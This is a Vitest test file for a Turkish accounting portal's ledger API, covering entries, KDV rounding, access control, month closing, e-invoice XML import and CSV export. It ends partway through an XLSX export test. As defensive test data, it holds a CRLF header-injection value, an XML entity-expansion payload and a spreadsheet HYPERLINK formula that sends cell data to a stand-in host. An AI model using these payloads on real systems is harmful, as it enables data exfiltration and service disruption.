import { readFileSync } from 'node:fs';
import {
  LEDGER_IMPORT_MAX_BYTES,
  type TLedgerEntry,
  type TLedgerImportDraft,
  type TLedgerSummary,
} from '@portal/contracts/ledger/ledger-schemas';
import { and, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accountInformations } from '../../db/schema/accounts.ts';
import { accountDocuments } from '../../db/schema/documents.ts';
import { ledgerEntries } from '../../db/schema/ledger.ts';
import { counterparties, purchaseInvoices } from '../../db/schema/pre-accounting.ts';
import { auditLogs } from '../../db/schema/staff.ts';
import { bearer, RELAXED_LIMITS } from '../../test/auth-helpers.ts';
import { inPiecesCutInFile, multipartBody } from '../../test/multipart-helpers.ts';
import { createCompany, createUserWithRole, type TFixtureUser } from '../../test/staff-fixtures.ts';
import { buildTestApp, type TTestApp } from '../../test/test-app.ts';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
const EXPENSE_INVOICE = fixture('temel-fatura-expense.xml');
const MULTI_RATE_INVOICE = fixture('ticari-fatura-multi-rate.xml');
const PERSON_INVOICE = fixture('temel-fatura-person-supplier.xml');
/** The company's own VKN, as its application recorded it (the fixtures' customer or supplier). */
const OWN_VKN = '1234567890';

let t: TTestApp;
let customer: TFixtureUser;
let outsider: TFixtureUser;
let advisor: TFixtureUser;
let otherAdvisor: TFixtureUser;
let admin: TFixtureUser;
let accountId: number;
let otherAccountId: number;

beforeAll(async () => {
  t = await buildTestApp({}, { rateLimits: RELAXED_LIMITS });
  const db = t.app.db;
  [customer, outsider, advisor, otherAdvisor, admin] = await Promise.all([
    createUserWithRole(db, 'customer', { name: 'Ayşe Müşteri' }),
    createUserWithRole(db, 'customer'),
    createUserWithRole(db, 'advisor'),
    createUserWithRole(db, 'advisor'),
    createUserWithRole(db, 'admin'),
  ]);
  accountId = await createCompany(db, [customer.id, advisor.id], { status: 4, name: 'Anadolu Yazılım' });
  otherAccountId = await createCompany(db, [outsider.id], { status: 4 });
  await db.insert(accountInformations).values({ accountId, key: 'tax_number', value: OWN_VKN });
});
afterAll(async () => {
  await t?.close();
});

type TCaller = TFixtureUser | null;
const headersOf = (who: TCaller, language = 'tr') => ({
  ...(who ? bearer(who.token) : {}),
  'accept-language': language,
});

function send(
  who: TCaller,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  url: string,
  payload?: object,
  language = 'tr',
) {
  return t.app.inject({ method, url, headers: headersOf(who, language), ...(payload ? { payload } : {}) });
}

const entriesUrl = (id = accountId) => `/api/accounts/${id}/ledger-entries`;

const expense = {
  date: '2025-03-14',
  kind: 'expense',
  counterparty_name: 'Kırtasiye Dünyası A.Ş.',
  counterparty_tax_number: '9876543217',
  description: 'Kağıt ve toner',
  category: 'office_supplies',
  net_amount: 150_000,
  kdv_rate: 20,
} as const;

async function create(body: object, who: TCaller = customer, url = entriesUrl()): Promise<TLedgerEntry> {
  const res = await send(who, 'POST', url, body);
  expect(res.statusCode, res.body).toBe(201);
  return res.json().result;
}

async function importFile(data: Buffer, who: TCaller = customer, name = 'fatura.xml', language = 'tr') {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(data)], { type: 'application/xml' }), name);
  const body = new Response(form);
  return t.app.inject({
    method: 'POST',
    url: `${entriesUrl()}/import`,
    headers: { ...headersOf(who, language), 'content-type': body.headers.get('content-type') ?? '' },
    payload: Buffer.from(await body.arrayBuffer()),
  });
}

describe('POST /api/accounts/{id}/ledger-entries', () => {
  it('stores an entry with the KDV and gross worked out from net and rate', async () => {
    const res = await send(customer, 'POST', entriesUrl(), expense);
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().message).toBe('Kayıt eklendi.');
    expect(res.json().result).toEqual({
      id: expect.any(Number),
      ...expense,
      kdv_amount: 30_000,
      gross_amount: 180_000,
      paid: false,
      document_id: null,
      source: 'manual',
      // The entry's tax number is new to the company: a counterparty is made for it.
      counterparty_id: expect.any(Number),
      sales_invoice_id: null,
      locked: false,
      created_at: expect.any(String),
      updated_at: expect.any(String),
    });
  });

  it('rounds the KDV half up to the kuruş', async () => {
    const half = await create({ ...expense, net_amount: 1_234_575, kdv_rate: 10 });
    expect(half).toMatchObject({ kdv_amount: 123_458, gross_amount: 1_358_033 });
    const below = await create({ ...expense, net_amount: 49, kdv_rate: 1 });
    expect(below).toMatchObject({ kdv_amount: 0, gross_amount: 49 });
    const stated = await create({ ...expense, net_amount: 10_000, kdv_rate: 20, kdv_amount: 2_000 });
    expect(stated.kdv_amount).toBe(2_000);
  });

  it('answers 422 with each field’s translated message', async () => {
    const cases: [object, string, string][] = [
      [{ counterparty_tax_number: '1234567891' }, 'counterparty_tax_number', 'VKN'],
      [{ counterparty_tax_number: '12345678901' }, 'counterparty_tax_number', 'VKN'],
      [{ category: 'sales_goods' }, 'category', 'kategori'],
      [{ kdv_rate: 18 }, 'kdv_rate', 'yürürlükte'],
      [{ kdv_rate: 15 }, 'kdv_rate', 'geçerli'],
      [{ kdv_amount: 30_001 }, 'kdv_amount', 'KDV tutarı'],
      [{ net_amount: -1 }, 'net_amount', 'tutar'],
      [{ date: '2025-02-29' }, 'date', 'tarih'],
      [{ counterparty_name: '' }, 'counterparty_name', 'karşı taraf'],
      [{ counterparty_name: 'Ofis\r\nBcc: x@evil.example' }, 'counterparty_name', 'tek satır'],
    ];
    for (const [change, field, words] of cases) {
      const res = await send(customer, 'POST', entriesUrl(), { ...expense, ...change });
      expect(res.statusCode, JSON.stringify(change)).toBe(422);
      const message = res.json().errors?.[field]?.[0] ?? '';
      expect(message.toLocaleLowerCase('tr'), JSON.stringify(change)).toContain(
        words.toLocaleLowerCase('tr'),
      );
    }
    const english = await send(
      customer,
      'POST',
      entriesUrl(),
      { ...expense, counterparty_tax_number: '1' },
      'en',
    );
    expect(english.json().errors.counterparty_tax_number).toEqual([
      'Please enter a valid tax number (VKN, 10 digits) or national ID (TCKN, 11 digits).',
    ]);
  });

  it('refuses a linked document of another company (422)', async () => {
    const [document] = await t.app.db
      .insert(accountDocuments)
      .values({
        accountId: otherAccountId,
        kind: 'expense_invoice',
        period: '2025-03',
        storageKey: 'documents/not-here.pdf',
        fileName: 'fatura.pdf',
        mimeType: 'application/pdf',
        size: 10,
      })
      .returning({ id: accountDocuments.id });
    const res = await send(customer, 'POST', entriesUrl(), { ...expense, document_id: document?.id });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors.document_id).toHaveLength(1);
  });

  it('keeps other people out: 401, 404 for another company’s customer and an unassigned advisor, 403 is not leaked', async () => {
    expect((await send(null, 'POST', entriesUrl(), expense)).statusCode).toBe(401);
    expect((await send(outsider, 'POST', entriesUrl(), expense)).statusCode).toBe(404);
    expect((await send(otherAdvisor, 'GET', entriesUrl())).statusCode).toBe(404);
    // An advisor without "show accounts all" gets 404 even asking for the staff view.
    expect((await send(otherAdvisor, 'GET', `${entriesUrl()}?all=1`)).statusCode).toBe(404);
    expect((await send(advisor, 'GET', entriesUrl())).statusCode).toBe(200);
    expect((await send(admin, 'GET', `${entriesUrl()}?all=1`)).statusCode).toBe(200);
    expect((await send(admin, 'GET', entriesUrl())).statusCode).toBe(404);
  });
});

describe('GET /api/accounts/{id}/ledger-entries', () => {
  let listAccount: number;
  beforeAll(async () => {
    listAccount = await createCompany(t.app.db, [customer.id], { status: 4 });
    const url = entriesUrl(listAccount);
    const base = { ...expense, counterparty_tax_number: null };
    await create(
      { ...base, date: '2025-05-03', counterparty_name: 'Beta', net_amount: 30_000, paid: true },
      customer,
      url,
    );
    await create(
      { ...base, date: '2025-05-20', counterparty_name: 'Alfa', net_amount: 10_000, category: 'rent' },
      customer,
      url,
    );
    await create(
      {
        ...base,
        date: '2025-05-11',
        kind: 'income',
        category: 'sales_services',
        counterparty_name: 'Gama',
        net_amount: 50_000,
      },
      customer,
      url,
    );
    await create(
      { ...base, date: '2025-06-01', counterparty_name: 'Delta', net_amount: 20_000 },
      customer,
      url,
    );
  });

  const list = async (query: string) => {
    const res = await send(customer, 'GET', `${entriesUrl(listAccount)}?${query}`);
    expect(res.statusCode, res.body).toBe(200);
    return res.json().result as {
      data: TLedgerEntry[];
      meta: { page: number; per_page: number; total: number };
    };
  };
  const names = (page: { data: TLedgerEntry[] }) => page.data.map((entry) => entry.counterparty_name);

  it('lists a month newest first in the paginated envelope', async () => {
    const page = await list('period=2025-05');
    expect(names(page)).toEqual(['Alfa', 'Gama', 'Beta']);
    expect(page.meta).toEqual({ page: 1, per_page: 20, total: 3 });
  });

  it('filters by kind, category and paid, and sorts by gross and counterparty', async () => {
    expect(names(await list('period=2025-05&kind=income'))).toEqual(['Gama']);
    expect(names(await list('period=2025-05&category=rent'))).toEqual(['Alfa']);
    expect(names(await list('period=2025-05&paid=true'))).toEqual(['Beta']);
    expect(names(await list('period=2025-05&paid=false&kind=expense'))).toEqual(['Alfa']);
    expect(names(await list('period=2025-05&sort=gross'))).toEqual(['Alfa', 'Beta', 'Gama']);
    expect(names(await list('sort=-counterparty'))).toEqual(['Gama', 'Delta', 'Beta', 'Alfa']);
    expect(names(await list('sort=date'))).toEqual(['Beta', 'Gama', 'Alfa', 'Delta']);
  });

  it('pages on the server', async () => {
    const second = await list('per_page=3&page=2');
    expect(names(second)).toEqual(['Beta']);
    expect(second.meta).toEqual({ page: 2, per_page: 3, total: 4 });
  });

  it('answers 422 for an unknown filter value', async () => {
    for (const query of ['period=2025-13', 'kind=other', 'sort=amount', 'category=yachts', 'paid=yes']) {
      expect((await send(customer, 'GET', `${entriesUrl(listAccount)}?${query}`)).statusCode, query).toBe(
        422,
      );
    }
  });
});

describe('PUT and DELETE /api/accounts/{id}/ledger-entries/{entryId}', () => {
  it('replaces an entry, recomputing its amounts, and deletes it', async () => {
    const entry = await create(expense);
    const res = await send(customer, 'PUT', `${entriesUrl()}/${entry.id}`, {
      ...expense,
      net_amount: 99_999,
      kdv_rate: 1,
      paid: true,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().message).toBe('Kayıt güncellendi.');
    expect(res.json().result).toMatchObject({
      net_amount: 99_999,
      kdv_amount: 1_000,
      gross_amount: 100_999,
      paid: true,
    });
    const removed = await send(customer, 'DELETE', `${entriesUrl()}/${entry.id}`);
    expect(removed.statusCode).toBe(200);
    expect(removed.json()).toEqual({ result: null, message: 'Kayıt silindi.' });
    expect((await send(customer, 'DELETE', `${entriesUrl()}/${entry.id}`)).statusCode).toBe(404);
  });

  it('answers 404 for an entry of another company, even through its own company’s path', async () => {
    const foreign = await create(
      { ...expense, counterparty_tax_number: null },
      outsider,
      entriesUrl(otherAccountId),
    );
    expect((await send(customer, 'PUT', `${entriesUrl()}/${foreign.id}`, expense)).statusCode).toBe(404);
    expect((await send(customer, 'DELETE', `${entriesUrl()}/${foreign.id}`)).statusCode).toBe(404);
    expect((await send(customer, 'DELETE', `${entriesUrl(otherAccountId)}/${foreign.id}`)).statusCode).toBe(
      404,
    );
  });
});

describe('closing a month', () => {
  const periodUrl = (period: string) => `/api/accounts/${accountId}/ledger-periods/${period}`;

  it('is for staff only, audited, and makes the month read-only for the customer', async () => {
    const open = await create({ ...expense, date: '2025-01-15' });
    expect((await send(customer, 'PUT', periodUrl('2025-01'), { closed: true })).statusCode).toBe(403);
    expect((await send(otherAdvisor, 'PUT', periodUrl('2025-01'), { closed: true })).statusCode).toBe(404);

    const closed = await send(advisor, 'PUT', periodUrl('2025-01'), { closed: true });
    expect(closed.statusCode, closed.body).toBe(200);
    expect(closed.json().result).toEqual({ period: '2025-01', closed: true, closed_at: expect.any(String) });
    const audits = await t.app.db
      .select()
      .from(auditLogs)
      .where(and(eq(auditLogs.accountId, accountId), eq(auditLogs.action, 'ledger.period_closed')));
    expect(audits).toHaveLength(1);
    expect(audits[0]).toMatchObject({ actorId: advisor.id, after: { period: '2025-01', closed: true } });

    const refused = await send(customer, 'POST', entriesUrl(), { ...expense, date: '2025-01-20' });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe(
      'Bu ay danışmanınız tarafından kapatıldı; kayıtları artık değiştirilemez.',
    );
    expect((await send(customer, 'PUT', `${entriesUrl()}/${open.id}`, expense)).statusCode).toBe(409);
    // Moving an open month's entry into the closed one is refused too.
    const march = await create(expense);
    expect(
      (await send(customer, 'PUT', `${entriesUrl()}/${march.id}`, { ...expense, date: '2025-01-02' }))
        .statusCode,
    ).toBe(409);
    expect((await send(customer, 'DELETE', `${entriesUrl()}/${open.id}`)).statusCode).toBe(409);

    const listed = await send(customer, 'GET', `${entriesUrl()}?period=2025-01`);
    expect(listed.json().result.data.map((entry: TLedgerEntry) => entry.locked)).toEqual([true]);

    // Staff still correct it.
    const fixed = await send(advisor, 'PUT', `${entriesUrl()}/${open.id}`, {
      ...expense,
      date: '2025-01-15',
      paid: true,
    });
    expect(fixed.statusCode, fixed.body).toBe(200);
    expect(fixed.json().result.locked).toBe(true);
    expect(
      (await send(admin, 'POST', `${entriesUrl()}?all=1`, { ...expense, date: '2025-01-21' })).statusCode,
    ).toBe(201);

    const reopened = await send(advisor, 'PUT', periodUrl('2025-01'), { closed: false }, 'en');
    expect(reopened.json()).toEqual({
      result: { period: '2025-01', closed: false, closed_at: null },
      message: 'The period 2025-01 has been reopened.',
    });
    expect((await send(customer, 'DELETE', `${entriesUrl()}/${open.id}`)).statusCode).toBe(200);
  });

  it('answers 422 for a month that is not one', async () => {
    expect((await send(advisor, 'PUT', periodUrl('2025-1'), { closed: true })).statusCode).toBe(422);
  });
});

describe('GET /api/accounts/{id}/ledger-summary', () => {
  it('sums income, expense and KDV per month and in total, with expenses by category', async () => {
    const id = await createCompany(t.app.db, [customer.id], { status: 4 });
    const url = entriesUrl(id);
    const base = { ...expense, counterparty_tax_number: null };
    await create(
      {
        ...base,
        date: '2025-07-01',
        kind: 'income',
        category: 'sales_goods',
        net_amount: 100_000,
        kdv_rate: 20,
      },
      customer,
      url,
    );
    await create(
      {
        ...base,
        date: '2025-07-31',
        kind: 'income',
        category: 'sales_services',
        net_amount: 5_005,
        kdv_rate: 10,
      },
      customer,
      url,
    );
    await create(
      { ...base, date: '2025-07-10', category: 'rent', net_amount: 40_000, kdv_rate: 20 },
      customer,
      url,
    );
    await create(
      { ...base, date: '2025-08-05', category: 'office_supplies', net_amount: 300_000, kdv_rate: 20 },
      customer,
      url,
    );
    await create(
      { ...base, date: '2025-08-06', category: 'rent', net_amount: 10_000, kdv_rate: 0 },
      customer,
      url,
    );
    // Outside the span: not counted.
    await create(
      { ...base, date: '2025-09-01', category: 'rent', net_amount: 777, kdv_rate: 1 },
      customer,
      url,
    );
    await send(advisor, 'PUT', `/api/accounts/${id}/ledger-periods/2025-07?all=1`, { closed: true });
    await send(admin, 'PUT', `/api/accounts/${id}/ledger-periods/2025-07?all=1`, { closed: true });

    const res = await send(customer, 'GET', `/api/accounts/${id}/ledger-summary?from=2025-06&to=2025-08`);
    expect(res.statusCode, res.body).toBe(200);
    const summary: TLedgerSummary = res.json().result;
    expect(summary.months).toEqual([
      {
        period: '2025-06',
        closed: false,
        income_net: 0,
        expense_net: 0,
        kdv_collected: 0,
        kdv_paid: 0,
        kdv_payable: 0,
      },
      // 20 000 + 501 (5 005 × 10 % = 500.5, half up)
      {
        period: '2025-07',
        closed: true,
        income_net: 105_005,
        expense_net: 40_000,
        kdv_collected: 20_501,
        kdv_paid: 8_000,
        kdv_payable: 12_501,
      },
      {
        period: '2025-08',
        closed: false,
        income_net: 0,
        expense_net: 310_000,
        kdv_collected: 0,
        kdv_paid: 60_000,
        kdv_payable: -60_000,
      },
    ]);
    expect(summary.total).toEqual({
      income_net: 105_005,
      expense_net: 350_000,
      kdv_collected: 20_501,
      kdv_paid: 68_000,
      kdv_payable: -47_499,
    });
    expect(summary.expense_by_category).toEqual([
      { category: 'office_supplies', net_amount: 300_000 },
      { category: 'rent', net_amount: 50_000 },
    ]);
  });

  it('answers 422 for a reversed or too long span, 404 for an outsider', async () => {
    const base = `/api/accounts/${accountId}/ledger-summary`;
    expect((await send(customer, 'GET', `${base}?from=2025-05&to=2025-04`)).statusCode).toBe(422);
    expect((await send(customer, 'GET', `${base}?from=2023-01&to=2025-01`)).statusCode).toBe(422);
    expect((await send(customer, 'GET', base)).statusCode).toBe(422);
    expect((await send(outsider, 'GET', `${base}?from=2025-01&to=2025-02`)).statusCode).toBe(404);
  });
});

describe('POST /api/accounts/{id}/ledger-entries/import', () => {
  it('reads an expense e-invoice into a draft the customer confirms', async () => {
    const res = await importFile(EXPENSE_INVOICE);
    expect(res.statusCode, res.body).toBe(200);
    const draft: TLedgerImportDraft = res.json().result;
    expect(draft).toMatchObject({
      invoice_number: 'KDA2025000000123',
      issue_date: '2025-03-14',
      profile: 'TEMELFATURA',
      supplier: { name: 'Ofis & Kırtasiye Dünyası A.Ş.', tax_number: '9876543217' },
      customer: { name: 'Anadolu Yazılım Ltd. Şti.', tax_number: OWN_VKN },
      kind: 'expense',
      kdv_by_rate: [{ kdv_rate: 20, net_amount: 150_000, kdv_amount: 30_000 }],
      totals: { net_amount: 150_000, kdv_amount: 30_000, gross_amount: 180_000, payable_amount: 180_000 },
    });
    expect(draft.lines).toEqual([
      {
        name: "A4 Fotokopi Kağıdı (500'lü)",
        quantity: '10',
        net_amount: 100_000,
        kdv_rate: 20,
        kdv_amount: 20_000,
        withholding_code: null,
        withheld_kdv: 0,
        exemption_code: null,
      },
      {
        name: 'Toner Kartuşu',
        quantity: '5',
        net_amount: 50_000,
        kdv_rate: 20,
        kdv_amount: 10_000,
        withholding_code: null,
        withheld_kdv: 0,
        exemption_code: null,
      },
    ]);
    expect(draft.entries).toEqual([
      {
        date: '2025-03-14',
        kind: 'expense',
        counterparty_name: 'Ofis & Kırtasiye Dünyası A.Ş.',
        counterparty_tax_number: '9876543217',
        description: "KDA2025000000123 · A4 Fotokopi Kağıdı (500'lü)",
        category: 'other_expense',
        net_amount: 150_000,
        kdv_rate: 20,
        kdv_amount: 30_000,
        withheld_kdv: 0,
        gross_amount: 180_000,
        paid: false,
        document_id: null,
        source: 'e_invoice',
      },
    ]);
    // Nothing was stored; the confirmation posts the proposed entry.
    const confirmed = await create(draft.entries[0] ?? {});
    expect(confirmed).toMatchObject({ source: 'e_invoice', gross_amount: 180_000 });
  });

  it('reads a party’s name broken over lines, or holding a control character, as one line', async () => {
    const xml = EXPENSE_INVOICE.toString('utf8').replace(
      '<cbc:Name>Ofis &amp; Kırtasiye Dünyası A.Ş.</cbc:Name>',
      '<cbc:Name>Ofis &amp; Kırtasiye\n        Dünyası&#13;&#10;A.Ş.&#9;&#127;</cbc:Name>',
    );
    const res = await importFile(Buffer.from(xml));
    expect(res.statusCode, res.body).toBe(200);
    const draft: TLedgerImportDraft = res.json().result;
    expect(draft.supplier.name).toBe('Ofis & Kırtasiye Dünyası A.Ş.');
    expect(draft.entries[0]?.counterparty_name).toBe('Ofis & Kırtasiye Dünyası A.Ş.');
  });

  it('proposes one income entry per KDV rate, keeping the invoice’s KDV when a kuruş off', async () => {
    const res = await importFile(MULTI_RATE_INVOICE);
    expect(res.statusCode, res.body).toBe(200);
    const draft: TLedgerImportDraft = res.json().result;
    expect(draft.kind).toBe('income');
    expect(draft.profile).toBe('TICARIFATURA');
    expect(draft.lines).toHaveLength(4);
    expect(draft.totals).toEqual({
      net_amount: 191_717,
      kdv_amount: 26_917,
      withheld_kdv: 0,
      gross_amount: 218_634,
      payable_amount: 218_634,
    });
    expect(
      draft.entries.map((e) => [e.kdv_rate, e.net_amount, e.kdv_amount, e.counterparty_name, e.category]),
    ).toEqual([
      [20, 100_000, 20_000, 'Marmara Gıda Ltd. Şti.', 'sales_goods'],
      // 666.67 × 10 % = 66.667 → 66.67 by the rule; the invoice's line-by-line 66.66 is kept.
      [10, 66_667, 6_666, 'Marmara Gıda Ltd. Şti.', 'sales_goods'],
      [1, 25_050, 251, 'Marmara Gıda Ltd. Şti.', 'sales_goods'],
    ]);
    for (const entry of draft.entries) await create(entry);
    // The same kuruş off is refused for an entry written by hand.
    const manual = await send(customer, 'POST', entriesUrl(), { ...draft.entries[1], source: 'manual' });
    expect(manual.statusCode).toBe(422);
  });

  it('names a person supplier by first and family name, with the TCKN', async () => {
    const res = await importFile(PERSON_INVOICE);
    expect(res.statusCode, res.body).toBe(200);
    const draft: TLedgerImportDraft = res.json().result;
    expect(draft.supplier).toEqual({ name: 'Ayşe Yılmaz', tax_number: '10000000146' });
    expect(draft.entries).toMatchObject([
      {
        kind: 'expense',
        counterparty_name: 'Ayşe Yılmaz',
        counterparty_tax_number: '10000000146',
        net_amount: 249_999,
        kdv_amount: 25_000,
      },
    ]);
  });

  it('answers 422 with a clear message for a malformed, foreign, incomplete or dangerous file', async () => {
    const cases: [Buffer, string][] = [
      [Buffer.from('<Invoice><cbc:ID>1</Invoice>'), 'Dosya okunamadı: geçerli bir XML dosyası değil.'],
      [Buffer.from('%PDF-1.7 not xml at all'), 'Dosya okunamadı: geçerli bir XML dosyası değil.'],
      [
        Buffer.from(
          '<?xml version="1.0"?><CreditNote xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"><ID>1</ID></CreditNote>',
        ),
        'Bu dosya bir e-fatura (UBL-TR) değil.',
      ],
      [
        Buffer.from('<?xml version="1.0"?><note><to>Ali</to></note>'),
        'Bu dosya bir e-fatura (UBL-TR) değil.',
      ],
      [
        Buffer.from(
          EXPENSE_INVOICE.toString().replace(/<cac:LegalMonetaryTotal>[\s\S]*<\/cac:LegalMonetaryTotal>/, ''),
        ),
        'E-faturada gerekli bilgiler eksik: cac:LegalMonetaryTotal.',
      ],
      [
        Buffer.from(
          EXPENSE_INVOICE.toString().replaceAll(
            '<cbc:Percent>20</cbc:Percent>',
            '<cbc:Percent>18</cbc:Percent>',
          ),
        ),
        'E-faturadaki %18 KDV oranı faturanın tarihinde (2025-03-14) yürürlükte değildi; o tarihteki oranlar: 0, 1, 10, 20.',
      ],
      [
        Buffer.from(
          EXPENSE_INVOICE.toString().replace(
            '>TRY</cbc:DocumentCurrencyCode>',
            '>EUR</cbc:DocumentCurrencyCode>',
          ),
        ),
        'E-fatura EUR para birimiyle düzenlenmiş, ancak Türk lirası kurunu (cac:PricingExchangeRate) belirtmiyor; tutarlar TRY’ye çevrilemiyor.',
      ],
      [
        Buffer.from(
          `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${EXPENSE_INVOICE.toString()
            .replace(/^<\?xml[^>]*>/, '')
            .replace('KDA2025000000123', '&b;')}`,
        ),
        'Dosya okunamadı: geçerli bir XML dosyası değil.',
      ],
    ];
    for (const [data, message] of cases) {
      const res = await importFile(data);
      expect(res.statusCode, message).toBe(422);
      expect(res.json().message).toBe(message);
      expect(res.json().errors.file).toEqual([message]);
    }
    const english = await importFile(Buffer.from('<a>'), customer, 'x.xml', 'en');
    expect(english.json().message).toBe('The file could not be read: it is not a valid XML file.');
  });

  it('refuses a request without a file (422) and a file over 2 MB (413)', async () => {
    const empty = await send(customer, 'POST', `${entriesUrl()}/import`, {});
    expect(empty.statusCode).toBe(422);
    const big = await importFile(Buffer.concat([EXPENSE_INVOICE, Buffer.alloc(2 * 1024 * 1024, 0x20)]));
    expect(big.statusCode).toBe(413);
  });

  it('refuses a file over 2 MB with 413 even when its bytes arrive cut exactly at the limit', async () => {
    const form = new FormData();
    const big = Buffer.concat([EXPENSE_INVOICE, Buffer.alloc(3 * 1024 * 1024, 0x20)]);
    form.append('file', new Blob([new Uint8Array(big)], { type: 'application/xml' }), 'fatura.xml');
    const body = await multipartBody(form);
    const res = await t.app.inject({
      method: 'POST',
      url: `${entriesUrl()}/import`,
      headers: {
        ...headersOf(customer),
        'content-type': body.contentType,
        'content-length': String(body.payload.length),
      },
      payload: inPiecesCutInFile(body.payload, LEDGER_IMPORT_MAX_BYTES),
    });
    expect(res.statusCode, res.body).toBe(413);
    expect(Object.keys(res.json().errors)).toEqual(['file']);
  });

  it('reads an XML monthly document of the company named by document_id', async () => {
    const storageKey = 'documents/ledger-test-invoice.xml';
    await t.app.storage.put(storageKey, MULTI_RATE_INVOICE);
    const [xml, pdf, foreign] = await t.app.db
      .insert(accountDocuments)
      .values([
        {
          accountId,
          kind: 'income_invoice',
          period: '2025-04',
          storageKey,
          fileName: 'fatura.xml',
          mimeType: 'application/xml',
          size: MULTI_RATE_INVOICE.length,
        },
        {
          accountId,
          kind: 'receipt',
          period: '2025-04',
          storageKey: 'documents/x.pdf',
          fileName: 'fis.pdf',
          mimeType: 'application/pdf',
          size: 10,
        },
        {
          accountId: otherAccountId,
          kind: 'income_invoice',
          period: '2025-04',
          storageKey,
          fileName: 'fatura.xml',
          mimeType: 'application/xml',
          size: 10,
        },
      ])
      .returning({ id: accountDocuments.id });
    const url = `${entriesUrl()}/import`;
    const res = await send(customer, 'POST', url, { document_id: xml?.id });
    expect(res.statusCode, res.body).toBe(200);
    const draft: TLedgerImportDraft = res.json().result;
    expect(draft.invoice_number).toBe('ANY2025000000042');
    expect(draft.entries.every((entry) => entry.document_id === xml?.id)).toBe(true);
    const linked = await create(draft.entries[0] ?? {});
    expect(linked.document_id).toBe(xml?.id);

    const notXml = await send(customer, 'POST', url, { document_id: pdf?.id });
    expect(notXml.statusCode).toBe(422);
    expect(notXml.json().message).toBe('Seçilen belge bir e-fatura XML dosyası değil.');
    expect((await send(customer, 'POST', url, { document_id: foreign?.id })).statusCode).toBe(422);
    expect((await send(customer, 'POST', url, { document_id: 'x' })).statusCode).toBe(422);
    expect((await send(outsider, 'POST', url, { document_id: xml?.id })).statusCode).toBe(404);
  });
});

describe('GET /api/accounts/{id}/ledger-entries/export', () => {
  let exportAccount: number;
  beforeAll(async () => {
    exportAccount = await createCompany(t.app.db, [customer.id], { status: 4 });
    const url = entriesUrl(exportAccount);
    await create(
      {
        ...expense,
        date: '2025-10-02',
        counterparty_name: 'Şişli Ofis; Kırtasiye',
        net_amount: 123_456,
        kdv_rate: 20,
        paid: true,
      },
      customer,
      url,
    );
    await create(
      {
        ...expense,
        date: '2025-10-09',
        kind: 'income',
        category: 'sales_services',
        counterparty_name: 'Ege Danışmanlık',
        counterparty_tax_number: null,
        net_amount: 100_000_000,
        kdv_rate: 10,
      },
      customer,
      url,
    );
    await create({ ...expense, date: '2025-11-01' }, customer, url);
  });

  const download = (query: string, language: string) =>
    send(customer, 'GET', `${entriesUrl(exportAccount)}/export?${query}`, undefined, language);

  it('writes a Turkish CSV: BOM, ; separated, translated columns, dd.mm.yyyy and 1.234,56', async () => {
    const res = await download('period=2025-10&format=csv', 'tr');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''on-muhasebe-2025-10.csv");
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split(/\r?\n/);
    expect(lines).toEqual([
      'Tarih;Tür;Karşı Taraf;VKN/TCKN;Açıklama;Kategori;Net Tutar;KDV Oranı (%);KDV Tutarı;Brüt Tutar;Ödendi;Belge No',
      '02.10.2025;Gider;"Şişli Ofis; Kırtasiye";9876543217;Kağıt ve toner;Kırtasiye ve ofis malzemesi;1.234,56;20;246,91;1.481,47;Evet;',
      '09.10.2025;Gelir;Ege Danışmanlık;;Kağıt ve toner;Hizmet satışı;1.000.000,00;10;100.000,00;1.100.000,00;Hayır;',
    ]);
  });

  it('writes an English CSV: , separated, ISO dates and 1234.56', async () => {
    const res = await download('period=2025-10&format=csv', 'en');
    expect(res.headers['content-disposition']).toContain("filename*=UTF-8''ledger-2025-10.csv");
    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split(/\r?\n/);
    expect(lines[0]).toBe(
      'Date,Kind,Counterparty,Tax number (VKN/TCKN),Description,Category,Net amount,KDV rate (%),KDV amount,Gross amount,Paid,Document no.',
    );
    expect(lines[1]).toBe(
      '2025-10-02,Expense,Şişli Ofis; Kırtasiye,9876543217,Kağıt ve toner,Office supplies,1234.56,20,246.91,1481.47,Yes,',
    );
    expect(lines).toHaveLength(3);
  });

  it('writes text that starts like a formula as text, with a quote before it, and keeps amounts numbers', async () => {
    const url = entriesUrl(exportAccount);
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await create(
      { ...expense, date: '2025-12-01', counterparty_name: hyperlink, description: '@SUM(1+1)' },
      customer,
      url,
    );
    await create(
      { ...expense, date: '2025-12-02', counterparty_name: '+90 Kırtasiye', description: '-2+3' },
      customer,
      url,
    );
    await create(
      { ...expense, date: '2025-12-03', counterparty_name: 'A=B Ltd', description: 'x-y' },
      customer,
      url,
    );
    const res = await download('period=2025-12&format=csv', 'en');
    expect(res.statusCode, res.body).toBe(200);
    const lines = res.rawPayload.subarray(3).toString('utf8').trim().split(/\r?\n/);
    expect(lines.slice(1)).toEqual([
      `2025-12-01,Expense,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",9876543217,'@SUM(1+1),Office supplies,1500.00,20,300.00,1800.00,No,`,
      "2025-12-02,Expense,'+90 Kırtasiye,9876543217,'-2+3,Office supplies,1500.00,20,300.00,1800.00,No,",
      '2025-12-03,Expense,A=B Ltd,9876543217,x-y,Office supplies,1500.00,20,300.00,1800.00,No,',
    ]);
  });

  it('writes an XLSX with real dates and lira numbers formatted #,##0.00', async () => {
    const res = await download('period=2025-10&format=xlsx', 'tr');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
